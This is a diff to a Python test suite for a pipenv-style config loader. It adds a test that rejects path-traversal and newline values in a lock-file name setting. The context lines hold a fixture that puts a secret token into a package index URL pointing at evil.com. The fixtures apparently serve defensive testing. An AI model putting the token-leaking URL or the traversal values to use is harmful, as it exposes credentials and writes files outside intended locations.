@@ -217,6 +217,13 @@ def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_
     assert project.scripts == {"x": f"echo ${TOKEN}"}
 
 
+@pytest.mark.parametrize("name", ["/../../x", "a\\\\b", "a\\nb"])
+def test_pylock_name_must_not_be_a_path(name: str, tmp_path: Path) -> None:
+    write_pipfile(tmp_path, SOURCE, f'[pipenv]\npylock_name = "{name}"\n')
+    with pytest.raises(ConfigurationError, match="is not a valid part of a file name"):
+        _ = load(tmp_path).pylock
+
+
 COPIES = [
     *(f"LEAK=x${{{TOKEN}}}", f"LEAK=${{{TOKEN}:-none}}"),
     f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
